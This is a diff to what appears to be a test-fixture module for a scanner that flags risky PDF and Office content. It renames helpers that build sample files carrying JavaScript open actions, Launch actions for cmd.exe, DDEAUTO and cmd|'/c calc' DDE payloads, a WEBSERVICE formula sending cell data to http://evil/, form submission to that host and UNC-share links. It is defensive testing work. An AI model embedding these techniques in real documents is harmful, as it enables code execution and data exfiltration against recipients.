@@ -39,7 +39,7 @@ def write_zip(parts: Mapping[str, str | bytes]) -> bytes:
     return buffer.getvalue()
 
 
-def spell_relations(relations: Relations) -> str:
+def format_relations(relations: Relations) -> str:
     """The part that holds relationships: kind, target, whether it is outside."""
     mode = {True: ' TargetMode="External"', False: ""}
     items = "".join(
@@ -49,7 +49,7 @@ def spell_relations(relations: Relations) -> str:
     return f'<Relationships xmlns="{_PACKAGE}/relationships">{items}</Relationships>'
 
 
-def spell_types(main: str, media_type: str, more: Mapping[str, str]) -> str:
+def format_types(main: str, media_type: str, more: Mapping[str, str]) -> str:
     """The content types; a key of ``more`` that begins with a dot is a suffix."""
     own = {f"/{main}": media_type, **{f"/{key}": value for key, value in more.items() if not key.startswith(".")}}
     suffixes = {
@@ -75,10 +75,10 @@ def make_word(
     """A docx with this body, these relationships of its main part, and these further parts."""
     return write_zip(
         {
-            "[Content_Types].xml": spell_types("word/document.xml", main_type, types),
-            "_rels/.rels": spell_relations((("officeDocument", "word/document.xml", False),)),
+            "[Content_Types].xml": format_types("word/document.xml", main_type, types),
+            "_rels/.rels": format_relations((("officeDocument", "word/document.xml", False),)),
             "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{KIND}"><w:body>{body}</w:body></w:document>',
-            "word/_rels/document.xml.rels": spell_relations(relations),
+            "word/_rels/document.xml.rels": format_relations(relations),
             **parts,
         }
     )
@@ -94,13 +94,13 @@ def make_book(
     """An xlsx with these cells, these defined names, and these further parts."""
     return write_zip(
         {
-            "[Content_Types].xml": spell_types(
+            "[Content_Types].xml": format_types(
                 "xl/workbook.xml", _BOOK_TYPE, {"xl/worksheets/sheet1.xml": _SHEET_TYPE, **types}
             ),
-            "_rels/.rels": spell_relations((("officeDocument", "xl/workbook.xml", False),)),
+            "_rels/.rels": format_relations((("officeDocument", "xl/workbook.xml", False),)),
             "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{KIND}"><sheets><sheet name="1" sheetId="1" '
             f'r:id="r1"/></sheets><definedNames>{names}</definedNames></workbook>',
-            "xl/_rels/workbook.xml.rels": spell_relations((("worksheet", "worksheets/sheet1.xml", False), *relations)),
+            "xl/_rels/workbook.xml.rels": format_relations((("worksheet", "worksheets/sheet1.xml", False), *relations)),
             "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="1">{cells}</row></sheetData>'
             "</worksheet>",
             **parts,
@@ -113,8 +113,8 @@ def make_slides(body: str) -> bytes:
     media_type = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
     return write_zip(
         {
-            "[Content_Types].xml": spell_types("ppt/presentation.xml", media_type, {}),
-            "_rels/.rels": spell_relations((("officeDocument", "ppt/presentation.xml", False),)),
+            "[Content_Types].xml": format_types("ppt/presentation.xml", media_type, {}),
+            "_rels/.rels": format_relations((("officeDocument", "ppt/presentation.xml", False),)),
             "ppt/presentation.xml": f"<p>{body}</p>",
         }
     )
@@ -125,7 +125,7 @@ def make_old(*streams: str) -> bytes:
     return OLE + b"".join(name.encode("utf-16-le") for name in streams)
 
 
-def spell_field(*runs: str, result: str = "") -> str:
+def format_field(*runs: str, result: str = "") -> str:
     """A complex field whose instruction is split over these runs."""
 
     def mark(kind: str) -> str:
@@ -135,12 +135,12 @@ def spell_field(*runs: str, result: str = "") -> str:
     return f"<w:p>{mark('begin')}{code}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}</w:p>"
 
 
-def spell_nested(*runs: str, result: str = "") -> str:
+def format_nested(*runs: str, result: str = "") -> str:
     """The same within a paragraph."""
-    return spell_field(*runs, result=result).removeprefix("<w:p>").removesuffix("</w:p>")
+    return format_field(*runs, result=result).removeprefix("<w:p>").removesuffix("</w:p>")
 
 
-def spell_formula(formula: str) -> str:
+def format_formula(formula: str) -> str:
     return f'<c r="A1"><f>{formula}</f><v>0</v></c>'
 
 
@@ -148,7 +148,7 @@ def name(text: str) -> NameObject:
     return NameObject(text)
 
 
-def spell_dictionary(**entries: object) -> DictionaryObject:
+def format_dictionary(**entries: object) -> DictionaryObject:
     """A dictionary of a PDF: texts that begin with a slash are names."""
     made = DictionaryObject()
     for key, value in entries.items():
@@ -168,7 +168,7 @@ def write_pdf(change: Callable[[PdfWriter], object]) -> bytes:
 
 def open_with(**action: object) -> bytes:
     """A PDF with an action when it is opened."""
-    return write_pdf(lambda writer: writer.root_object.__setitem__(name("/OpenAction"), spell_dictionary(**action)))
+    return write_pdf(lambda writer: writer.root_object.__setitem__(name("/OpenAction"), format_dictionary(**action)))
 
 
 def annotate_with(annotation: DictionaryObject) -> bytes:
@@ -183,11 +183,11 @@ def annotate_with(annotation: DictionaryObject) -> bytes:
 
 
 def link_to(**action: object) -> bytes:
-    return annotate_with(spell_dictionary(Subtype="/Link", A=spell_dictionary(**action)))
+    return annotate_with(format_dictionary(Subtype="/Link", A=format_dictionary(**action)))
 
 
 def put_into_root(**entries: object) -> bytes:
-    return write_pdf(lambda writer: writer.root_object.update(spell_dictionary(**entries)))
+    return write_pdf(lambda writer: writer.root_object.update(format_dictionary(**entries)))
 
 
 def hide_in_object_stream() -> bytes:
@@ -215,7 +215,7 @@ def hide_in_object_stream() -> bytes:
     return data + b"startxref\n%d\n%%%%EOF\n" % start
 
 
-def spell_with_escapes() -> bytes:
+def format_with_escapes() -> bytes:
     """A PDF that writes the names of its action with escapes: /J#61vaScript."""
     data = open_with(S="/JavaScript", JS="app.alert(1)")
     return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
@@ -237,7 +237,7 @@ def add_outline(**action: object) -> bytes:
         first = writer.root_object["/Outlines"].get_object()["/First"].get_object()  # type: ignore[index]
         if action:
             first.pop(name("/A"), None)
-            first[name("/A")] = spell_dictionary(**action)
+            first[name("/A")] = format_dictionary(**action)
 
     return write_pdf(change)
 
@@ -247,44 +247,46 @@ def attach(writer: PdfWriter) -> None:
 
 
 def act_on_page(writer: PdfWriter) -> None:
-    action = spell_dictionary(S="/JavaScript", JS="1")
-    writer.pages[0][name("/AA")] = spell_dictionary(O=action)
+    action = format_dictionary(S="/JavaScript", JS="1")
+    writer.pages[0][name("/AA")] = format_dictionary(O=action)
 
 
 def name_script(writer: PdfWriter) -> None:
-    tree = spell_dictionary(Names=ArrayObject([TextStringObject("a"), spell_dictionary(S="/JavaScript", JS="1")]))
-    writer.root_object[name("/Names")] = spell_dictionary(JavaScript=tree)
+    tree = format_dictionary(Names=ArrayObject([TextStringObject("a"), format_dictionary(S="/JavaScript", JS="1")]))
+    writer.root_object[name("/Names")] = format_dictionary(JavaScript=tree)
 
 
 def script_by_stream(writer: PdfWriter) -> None:
     stream = StreamObject()
     stream.set_data(b"app.alert(1)")
-    action = spell_dictionary(S="/JavaScript", JS=writer._add_object(stream))
-    writer.root_object[name("/OpenAction")] = spell_dictionary(S="/GoTo", D=ArrayObject([]), Next=ArrayObject([action]))
+    action = format_dictionary(S="/JavaScript", JS=writer._add_object(stream))
+    writer.root_object[name("/OpenAction")] = format_dictionary(
+        S="/GoTo", D=ArrayObject([]), Next=ArrayObject([action])
+    )
 
 
 def act_in_field(writer: PdfWriter) -> None:
-    field = spell_dictionary(T="a", FT="/Tx", AA=spell_dictionary(K=spell_dictionary(S="/JavaScript", JS="1")))
-    writer.root_object[name("/AcroForm")] = spell_dictionary(Fields=ArrayObject([writer._add_object(field)]))
+    field = format_dictionary(T="a", FT="/Tx", AA=format_dictionary(K=format_dictionary(S="/JavaScript", JS="1")))
+    writer.root_object[name("/AcroForm")] = format_dictionary(Fields=ArrayObject([writer._add_object(field)]))
 
 
 def act_in_parent(writer: PdfWriter) -> None:
-    parent = spell_dictionary(T="a", AA=spell_dictionary(K=spell_dictionary(S="/JavaScript", JS="1")))
-    widget = spell_dictionary(Type="/Annot", Subtype="/Widget", Parent=writer._add_object(parent))
+    parent = format_dictionary(T="a", AA=format_dictionary(K=format_dictionary(S="/JavaScript", JS="1")))
+    widget = format_dictionary(Type="/Annot", Subtype="/Widget", Parent=writer._add_object(parent))
     writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(widget)])
 
 
 def fill_form(writer: PdfWriter) -> None:
-    field = spell_dictionary(T="姓名", FT="/Tx", V="某某")
-    writer.root_object[name("/AcroForm")] = spell_dictionary(Fields=ArrayObject([writer._add_object(field)]))
-    writer.root_object[name("/ViewerPreferences")] = spell_dictionary(FitWindow=NumberObject(1))
+    field = format_dictionary(T="姓名", FT="/Tx", V="某某")
+    writer.root_object[name("/AcroForm")] = format_dictionary(Fields=ArrayObject([writer._add_object(field)]))
+    writer.root_object[name("/ViewerPreferences")] = format_dictionary(FitWindow=NumberObject(1))
 
 
 FILE_SPEC = "c:/x.exe"
 
 PDFS: dict[str, tuple[bytes, str]] = {
     "javascript": (open_with(S="/JavaScript", JS="app.alert(1)"), "script"),
-    "javascript, escaped": (spell_with_escapes(), "script"),
+    "javascript, escaped": (format_with_escapes(), "script"),
     "javascript, in an object stream": (hide_in_object_stream(), "script"),
     "javascript, in a stream behind a GoTo": (write_pdf(script_by_stream), "script"),
     "javascript, on a page": (write_pdf(act_on_page), "script"),
@@ -294,7 +296,7 @@ PDFS: dict[str, tuple[bytes, str]] = {
     "javascript, in an outline": (add_outline(S="/JavaScript", JS="1"), "script"),
     "javascript, of a link": (link_to(S="/JavaScript", JS="1"), "script"),
     "launch": (open_with(S="/Launch", F=FILE_SPEC), "launch"),
-    "launch, of a link": (link_to(S="/Launch", Win=spell_dictionary(F="cmd.exe")), "launch"),
+    "launch, of a link": (link_to(S="/Launch", Win=format_dictionary(F="cmd.exe")), "launch"),
     "launch, its type indirect": (refer_to_names(), "launch"),
     "another file": (link_to(S="/GoToR", F="\\\\evil\\x.pdf", D=ArrayObject([])), "elsewhere"),
     "another file, embedded": (link_to(S="/GoToE", F="a.pdf"), "elsewhere"),
@@ -304,22 +306,22 @@ PDFS: dict[str, tuple[bytes, str]] = {
     "URI to a share": (link_to(S="/URI", URI="\\\\evil\\share\\x"), "elsewhere"),
     "URI that is a script": (link_to(S="/URI", URI="javascript:alert(1)"), "elsewhere"),
     "URI to a program beside": (link_to(S="/URI", URI="安装/setup.exe"), "elsewhere"),
-    "a base that is a file": (put_into_root(URI=spell_dictionary(Base="file://evil/")), "elsewhere"),
+    "a base that is a file": (put_into_root(URI=format_dictionary(Base="file://evil/")), "elsewhere"),
     "submit": (link_to(S="/SubmitForm", F="http://evil/"), "submit"),
-    "submit, when opened": (open_with(S="/SubmitForm", F=spell_dictionary(FS="/URL", F="http://evil/")), "submit"),
+    "submit, when opened": (open_with(S="/SubmitForm", F=format_dictionary(FS="/URL", F="http://evil/")), "submit"),
     "import data": (link_to(S="/ImportData", F="a.fdf"), "submit"),
     "attachment": (write_pdf(attach), "attachment"),
     "attachment, as an annotation": (
         annotate_with(
-            spell_dictionary(Subtype="/FileAttachment", FS=spell_dictionary(F="a.exe", EF=spell_dictionary(F="x")))
+            format_dictionary(Subtype="/FileAttachment", FS=format_dictionary(F="a.exe", EF=format_dictionary(F="x")))
         ),
         "attachment",
     ),
-    "rich media": (annotate_with(spell_dictionary(Subtype="/RichMedia")), "media"),
-    "film": (annotate_with(spell_dictionary(Subtype="/Screen", A=spell_dictionary(S="/Rendition"))), "media"),
+    "rich media": (annotate_with(format_dictionary(Subtype="/RichMedia")), "media"),
+    "film": (annotate_with(format_dictionary(Subtype="/Screen", A=format_dictionary(S="/Rendition"))), "media"),
     "sound": (link_to(S="/Sound"), "media"),
-    "3D": (annotate_with(spell_dictionary(Subtype="/3D")), "media"),
-    "XFA": (put_into_root(AcroForm=spell_dictionary(XFA=ArrayObject([]), Fields=ArrayObject([]))), "form"),
+    "3D": (annotate_with(format_dictionary(Subtype="/3D")), "media"),
+    "XFA": (put_into_root(AcroForm=format_dictionary(XFA=ArrayObject([]), Fields=ArrayObject([]))), "form"),
 }
 """By what they are: a PDF, and the kind of action that is found in it."""
 
@@ -333,7 +335,7 @@ ORDINARY_PDFS: dict[str, bytes] = {
     "opened at a page": put_into_root(OpenAction=ArrayObject([NumberObject(0), name("/Fit")])),
     "print dialogue": link_to(S="/Named", N="/NextPage"),
     "form that was filled in": write_pdf(fill_form),
-    "highlighted": annotate_with(spell_dictionary(Subtype="/Highlight", Contents="看这里")),
+    "highlighted": annotate_with(format_dictionary(Subtype="/Highlight", Contents="看这里")),
 }
 
 _BIN = {".bin": "application/vnd.ms-office.vbaProject"}
@@ -346,7 +348,7 @@ def link_book(content: str, relations: Relations = ()) -> bytes:
         relations=(("externalLink", "externalLinks/externalLink1.xml", False),),
         parts={
             _LINKED_BOOK: f'<externalLink xmlns="{SHEET}" xmlns:r="{KIND}">{content}</externalLink>',
-            "xl/externalLinks/_rels/externalLink1.xml.rels": spell_relations(relations),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": format_relations(relations),
         },
     )
 
@@ -357,7 +359,7 @@ def with_chart(workbook: bytes, chart_type: str = CHART_TYPE) -> bytes:
         relations=(("chart", "charts/chart1.xml", False),),
         parts={
             "word/charts/chart1.xml": '<c:chartSpace xmlns:c="c"><c:f>Sheet1!$A$1</c:f></c:chartSpace>',
-            "word/charts/_rels/chart1.xml.rels": spell_relations(
+            "word/charts/_rels/chart1.xml.rels": format_relations(
                 (("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", False),)
             ),
             "word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook,
@@ -423,8 +425,8 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
     ),
     "DDE": (".docx", make_word(_CODE.format("DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;")), "dde"),
     "DDE, in small letters": (".docx", make_word(_CODE.format(" dde excel a b")), "dde"),
-    "DDE, split over runs": (".docx", make_word(spell_field("D", "DEA", "UTO", " c:\\\\cmd.exe a")), "dde"),
-    "DDE, a character reference": (".docx", make_word(spell_field("&#68;DE", " cmd a")), "dde"),
+    "DDE, split over runs": (".docx", make_word(format_field("D", "DEA", "UTO", " c:\\\\cmd.exe a")), "dde"),
+    "DDE, a character reference": (".docx", make_word(format_field("&#68;DE", " cmd a")), "dde"),
     "DDE, without a result": (
         ".docx",
         make_word(
@@ -434,12 +436,12 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
     ),
     "DDE, in a field of a field": (
         ".docx",
-        make_word(spell_field("IF 1 = 1 ", spell_nested("DDEAUTO cmd a"), " 2")),
+        make_word(format_field("IF 1 = 1 ", format_nested("DDEAUTO cmd a"), " 2")),
         "dde",
     ),
     "DDE, spelled by QUOTE": (
         ".docx",
-        make_word(spell_field(spell_nested("QUOTE 68 68 69"), " cmd a")),
+        make_word(format_field(format_nested("QUOTE 68 68 69"), " cmd a")),
         "dde",
     ),
     "DDE, in a header": (
@@ -468,10 +470,10 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
     "text from a file": (".docx", make_word(_CODE.format("INCLUDETEXT &quot;\\\\\\\\evil\\\\a.docx&quot;")), "field"),
     "picture from elsewhere, by field": (
         ".docx",
-        make_word(spell_field("INCLUDEPICTURE ", '"http://evil/a.png" \\d')),
+        make_word(format_field("INCLUDEPICTURE ", '"http://evil/a.png" \\d')),
         "field",
     ),
-    "linked object": (".docx", make_word(spell_field("LINK Excel.Sheet.12 a.xlsx")), "field"),
+    "linked object": (".docx", make_word(format_field("LINK Excel.Sheet.12 a.xlsx")), "field"),
     "database": (".docx", make_word(_CODE.format("DATABASE \\d a.mdb")), "field"),
     "picture from elsewhere": (".docx", make_word(relations=(("image", "http://evil/a.png", True),)), "remote"),
     "picture on a share, said to be inside": (
@@ -484,7 +486,7 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
         ".docx",
         make_word(
             parts={
-                "word/_rels/settings.xml.rels": spell_relations((("attachedTemplate", "//evil/a", True),)).replace(
+                "word/_rels/settings.xml.rels": format_relations((("attachedTemplate", "//evil/a", True),)).replace(
                     '"External"', '"EXTERNAL"'
                 ),
                 "word/settings.xml": "<a/>",
@@ -519,12 +521,12 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
     ),
     "link that is a script": (".docx", make_word(relations=(("hyperlink", "java\tscript:1", True),)), "file_link"),
     "link to a program beside": (".docx", make_word(relations=(("hyperlink", "附件/setup.exe", True),)), "file_link"),
-    "link by field": (".docx", make_word(spell_field("HYPERLINK ", '"file:///', 'c:/x"')), "file_link"),
-    "web service": (".xlsx", make_book(spell_formula('_xlfn.WEBSERVICE("http://evil/"&amp;A2)')), "function"),
-    "XML filter": (".xlsx", make_book(spell_formula('1+filterxml(A1,"//a")')), "function"),
-    "real-time data": (".xlsx", make_book(spell_formula('RTD("a.b",,"c")')), "function"),
+    "link by field": (".docx", make_word(format_field("HYPERLINK ", '"file:///', 'c:/x"')), "file_link"),
+    "web service": (".xlsx", make_book(format_formula('_xlfn.WEBSERVICE("http://evil/"&amp;A2)')), "function"),
+    "XML filter": (".xlsx", make_book(format_formula('1+filterxml(A1,"//a")')), "function"),
+    "real-time data": (".xlsx", make_book(format_formula('RTD("a.b",,"c")')), "function"),
     "registered code": (".xlsx", make_book(names='<definedName name="a">CALL("urlmon","b")</definedName>'), "function"),
-    "DDE formula": (".xlsx", make_book(spell_formula("cmd|'/c calc'!A0")), "dde"),
+    "DDE formula": (".xlsx", make_book(format_formula("cmd|'/c calc'!A0")), "dde"),
     "DDE link": (".xlsx", link_book('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "dde"),
     "another workbook": (
         ".xlsx",
@@ -536,7 +538,7 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
         make_book(relations=(("connections", "connections.xml", False),), parts={"xl/connections.xml": "<a/>"}),
         "remote",
     ),
-    "HYPERLINK to a file": (".xlsx", make_book(spell_formula('HYPERLINK("file://evil/a.exe","看")')), "file_link"),
+    "HYPERLINK to a file": (".xlsx", make_book(format_formula('HYPERLINK("file://evil/a.exe","看")')), "file_link"),
     "macro sheet": (
         ".xlsx",
         make_book(relations=(("xlMacrosheet", "a/b.xml", False),), parts={"xl/a/b.xml": "<a/>"}),
@@ -587,20 +589,20 @@ OFFICE: dict[str, tuple[str, bytes, str]] = {
 _TABLE = "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"
 
 ORDINARY: dict[str, tuple[str, bytes]] = {
-    "contents": (".docx", make_word(spell_field(' TOC \\o "1-3" \\h \\z \\u ', result="目录"))),
+    "contents": (".docx", make_word(format_field(' TOC \\o "1-3" \\h \\z \\u ', result="目录"))),
     "page numbers": (".docx", make_word(_CODE.format(" PAGE  \\* MERGEFORMAT ") + _CODE.format("NUMPAGES"))),
-    "references": (".docx", make_word(spell_field(" REF _Ref1 \\h ") + spell_field(" PAGEREF _Toc1 \\h "))),
-    "captions": (".docx", make_word(spell_field(" SEQ 表 \\* ARABIC ") + _CODE.format("STYLEREF 1 \\s"))),
+    "references": (".docx", make_word(format_field(" REF _Ref1 \\h ") + format_field(" PAGEREF _Toc1 \\h "))),
+    "captions": (".docx", make_word(format_field(" SEQ 表 \\* ARABIC ") + _CODE.format("STYLEREF 1 \\s"))),
     "dates": (".docx", make_word(_CODE.format("DATE \\@ &quot;yyyy年M月d日&quot;") + _CODE.format("SAVEDATE"))),
     "mail merge field": (".docx", make_word(_CODE.format("MERGEFIELD 企业名称"))),
-    "formula field": (".docx", make_word(spell_field("=SUM(ABOVE) \\# 0.00") + spell_field(" EQ \\f(1,2) "))),
+    "formula field": (".docx", make_word(format_field("=SUM(ABOVE) \\# 0.00") + format_field(" EQ \\f(1,2) "))),
     "place to click": (".docx", make_word(_CODE.format("MACROBUTTON NoMacro [单击此处输入]"))),
     "text about DDE": (".docx", make_word("<w:p><w:r><w:t>DDEAUTO cmd.exe，WEBSERVICE(1)</w:t></w:r></w:p>")),
-    "field results that say DDE": (".docx", make_word(spell_field(" REF a ", result="DDEAUTO cmd"))),
+    "field results that say DDE": (".docx", make_word(format_field(" REF a ", result="DDEAUTO cmd"))),
     "links": (
         ".docx",
         make_word(
-            spell_field(' HYPERLINK "https://example.org/a.exe?b" ') + spell_field(' HYPERLINK \\l "_Toc1" '),
+            format_field(' HYPERLINK "https://example.org/a.exe?b" ') + format_field(' HYPERLINK \\l "_Toc1" '),
             relations=(
                 ("hyperlink", "https://www.example.org/下载/setup.exe", True),
                 ("hyperlink", "mailto:a@example.org", True),
@@ -629,13 +631,13 @@ ORDINARY: dict[str, tuple[str, bytes]] = {
             types={".odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"},
         ),
     ),
-    "chart": (".docx", with_chart(make_book(spell_formula("SUM(B1:B9)")))),
+    "chart": (".docx", with_chart(make_book(format_formula("SUM(B1:B9)")))),
     "formulas": (
         ".xlsx",
         make_book(
-            spell_formula('IF(A2="a|b",SUM(B1:B3),"CALL(1)")')
-            + spell_formula("'华东|华北'!A1+RECALL(1)+_xlfn.IFERROR(A1,0)")
-            + spell_formula('HYPERLINK("https://example.org/","看")&amp;HYPERLINK("#Sheet1!A1","返回")'),
+            format_formula('IF(A2="a|b",SUM(B1:B3),"CALL(1)")')
+            + format_formula("'华东|华北'!A1+RECALL(1)+_xlfn.IFERROR(A1,0)")
+            + format_formula('HYPERLINK("https://example.org/","看")&amp;HYPERLINK("#Sheet1!A1","返回")'),
             names='<definedName name="_xlnm.Print_Area">Sheet1!$A$1</definedName>',
         ),
     ),
